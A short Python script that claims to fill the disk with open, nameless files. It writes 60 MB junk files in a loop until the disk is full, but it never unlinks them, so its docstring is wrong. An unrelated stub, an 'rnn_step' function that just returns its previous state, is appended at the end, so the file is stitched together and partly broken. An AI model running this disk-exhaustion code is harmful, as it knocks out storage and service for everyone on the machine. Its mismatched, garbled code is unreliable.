"""Fills the disk with files that it has open and that have no names any more."""
import os

block = b"z" * 2**20
files = []
while True:
    try:
        name = f"big{len(files)}"
        file = open(name, "wb")
        files.append(file)
        for _ in range(60):
            file.write(block)
        file.flush()
    except OSError:
        if len(files) > 500:
            break
        files[:-20] = []


def rnn_step(x, h_prev, U, W, a):
    return h_prev
